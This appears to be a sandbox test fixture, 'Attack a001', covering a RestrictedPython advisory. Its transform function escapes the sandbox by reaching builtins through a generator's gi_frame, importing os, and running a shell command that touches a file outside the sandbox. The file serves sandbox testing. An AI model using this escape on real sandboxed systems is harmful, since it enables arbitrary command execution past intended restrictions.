# Attack a001: a generator's frame, named directly.
# expect: compile
# stage: preview
# effect: write
# covers: RestrictedPython advisory: frames via generators (gi_frame)
# calibrate: live

def transform(df):
    def gen():
        yield 1
    g = gen()
    fr = g.gi_frame
    b = fr.f_builtins
    o = b["__import__"]("os")
    o.system("/usr/bin/touch {OUTSIDE_FILE}")
    return df
